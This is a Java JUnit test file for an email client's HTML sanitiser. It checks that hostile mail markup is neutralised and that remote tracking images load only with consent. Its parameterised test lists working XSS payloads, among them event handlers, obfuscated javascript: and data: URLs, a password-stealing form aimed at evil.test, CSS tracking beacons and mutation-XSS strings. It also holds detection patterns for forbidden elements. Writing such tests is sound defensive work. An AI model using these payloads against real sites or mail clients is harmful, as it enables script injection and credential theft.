package com.workestra.email.inbox.internal.view;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile mail HTML comes out harmless; ordinary formatting survives. */
class HtmlCleanerTest {

    private static String clean(String html) {
        return HtmlCleaner.clean(html, false).html().toLowerCase(Locale.ROOT);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert('x')</script><p>hi</p>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT><p>hi</p>",
        "<p onclick=\"alert('x')\" onmouseover=alert(1)>hi</p>",
        "<img src=x onerror=alert(1)><p>hi</p>",
        "<a href=\"javascript:alert(1)\">hi</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">hi</a>",
        "<a href=\"&#106;avascript:alert(1)\">hi</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">hi</a>",
        "<form action=\"https://evil.test/steal\"><input name=password><button>hi</button></form>",
        "<iframe src=\"https://evil.test\"></iframe><p>hi</p>",
        "<object data=\"https://evil.test/x.swf\"></object><embed src=x><p>hi</p>",
        "<svg onload=alert(1)><p>hi</p></svg>",
        "<style>body{background:url(https://evil.test/t.gif)}</style><p>hi</p>",
        "<p style=\"background-image:url(https://evil.test/t.gif);color:red\">hi</p>",
        "<div style=\"width:expression(alert(1))\">hi</div>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\"><p>hi</p>",
        "<base href=\"https://evil.test/\"><a href=\"x\">hi</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>hi",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">hi</p></noscript>",
    })
    void hostileHtmlIsNeutralised(String hostile) {
        String out = clean(hostile);
        // what the browser would parse as markup: the tags (text and attribute values come out escaped)
        Matcher tags = Pattern.compile("<[a-z][^>]*>").matcher(out);
        while (tags.find()) {
            String tag = tags.group();
            assertFalse(Pattern.compile("\\son[a-z]+\\s*=").matcher(tag).find(), "event handler in " + out);
            assertFalse(tag.matches("<(script|form|input|button|iframe|object|embed|style|meta|base|svg|math)\\b.*"),
                    "forbidden element in " + out);
            assertFalse(tag.contains("javascript:") || tag.contains("data:") || tag.contains("expression("),
                    "active URL or CSS in " + out);
        }
        assertFalse(out.contains("evil.test"), out);
        // the parser-confusion case swallows its text; everywhere else the visible text stays
        assertTrue(out.contains("hi") || hostile.contains("mglyph"), out);
    }

    @Test
    void remoteImagesOnlyWithConsentAndInlineImagesKeepTheirAttachmentReference() {
        String html = "<p>Hello <b>you</b></p><img src=\"https://tracker.test/p.gif?u=1\" width=1 height=1>"
                + "<img src=\"cid:logo@mail\" alt=logo><a href=\"https://example.test/x\">link</a>";
        HtmlCleaner.Cleaned hidden = HtmlCleaner.clean(html, false);
        assertTrue(hidden.remoteImagesBlocked());
        assertFalse(hidden.html().contains("tracker.test"), hidden.html());
        assertTrue(hidden.html().contains("src=\"cid:logo&#64;mail\"") || hidden.html().contains("src=\"cid:logo@mail\""),
                hidden.html());
        assertTrue(hidden.html().contains("<b>you</b>"), hidden.html());
        assertTrue(hidden.html().contains("href=\"https://example.test/x\""), hidden.html());
        assertTrue(hidden.html().contains("noopener"), hidden.html());

        HtmlCleaner.Cleaned shown = HtmlCleaner.clean(html, true);
        assertFalse(shown.remoteImagesBlocked());
        assertTrue(shown.html().contains("https://tracker.test/p.gif"), shown.html());
    }

    @Test
    void noHtmlMeansNoHtml() {
        assertNull(HtmlCleaner.clean(null, false).html());
    }
}
